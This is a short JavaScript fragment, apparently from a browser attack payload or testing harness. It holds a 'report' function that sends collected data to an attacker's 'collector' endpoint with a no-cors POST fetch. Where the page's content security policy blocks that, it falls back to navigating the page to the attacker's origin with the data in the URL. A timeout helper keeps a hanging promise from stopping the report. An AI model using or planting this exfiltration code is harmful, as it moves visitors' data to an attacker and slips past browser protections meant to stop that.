// Sends what was found home: by fetch, or, where the page's policy forbids
// that, by leaving for the attacker's origin with it.
const report = async (places, error = "", more = {}) => {
  try {
    await fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify({places, error, by: "fetch", ...more})});
  } catch {
    const text = encodeURIComponent(JSON.stringify({places, error, by: "navigation", ...more}));
    // Who leaves comes no more, so it waits for what is last; and an address has an end.
    if (!more.more) location.assign(collector + "&report=" + text);
  }
};
// In time, or not: a promise that hangs keeps no payload from reporting.
const within = (ms, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))]);
